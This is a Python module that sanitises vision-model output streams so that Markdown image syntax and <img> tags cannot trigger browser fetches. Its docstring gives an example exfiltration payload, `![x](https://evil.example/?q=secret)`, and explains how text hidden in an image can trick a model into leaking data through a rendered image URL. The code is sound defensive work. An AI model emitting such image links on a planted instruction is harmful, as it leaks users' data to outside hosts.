"""Keep model text that read untrusted pixels from loading pictures off the internet.

A screen or an attached picture can hold words such as `![x](https://evil.example/?q=secret)`.
If the vision model repeats them, OpenWebUI renders an image and the browser fetches that address,
telling a stranger whatever the address carries. Text from such answers is disarmed: Markdown
image openers and HTML <img> tags become plain text; everything else reads the same.
AlphaOmega's own pictures (thumbnails, generated images) are Image items, never model text.
"""
import re
from collections.abc import Iterator
from typing import TypeVar

T = TypeVar("T")

_TRIGGERS = ("![", "<img")
_OPENERS = re.compile(r"!\[|<(?=img)", re.IGNORECASE)
_LONGEST = max(len(t) for t in _TRIGGERS)


def disarm(text: str) -> str:
    """`![` becomes `!\\[` (shown as written, not rendered) and `<img` becomes `&lt;img`."""
    return _OPENERS.sub(lambda m: "!\\[" if m.group() == "![" else "&lt;", text)


def _held_back(text: str) -> int:
    """How many trailing characters might start a trigger that the next chunk completes."""
    tail = text[-(_LONGEST - 1):].lower()
    for size in range(len(tail), 0, -1):
        if any(trigger.startswith(tail[-size:]) for trigger in _TRIGGERS):
            return size
    return 0


def disarmed_stream(items: Iterator[T]) -> Iterator[T]:
    """`items` with every text piece disarmed, even when a trigger is split across two pieces."""
    carry = ""
    try:
        for item in items:
            if not isinstance(item, str):
                if carry:
                    yield disarm(carry)  # type: ignore[misc]
                    carry = ""
                yield item
                continue
            text = carry + item
            keep = _held_back(text)
            carry = text[len(text) - keep:] if keep else ""
            ready = text[:len(text) - keep]
            if ready:
                yield disarm(ready)  # type: ignore[misc]
    except Exception:
        if carry:  # the text so far is shown before the failure is reported
            yield disarm(carry)  # type: ignore[misc]
        raise
    finally:
        close = getattr(items, "close", None)
        if close is not None:  # Stop closes us: close the model's stream too
            close()
    if carry:
        yield disarm(carry)  # type: ignore[misc]
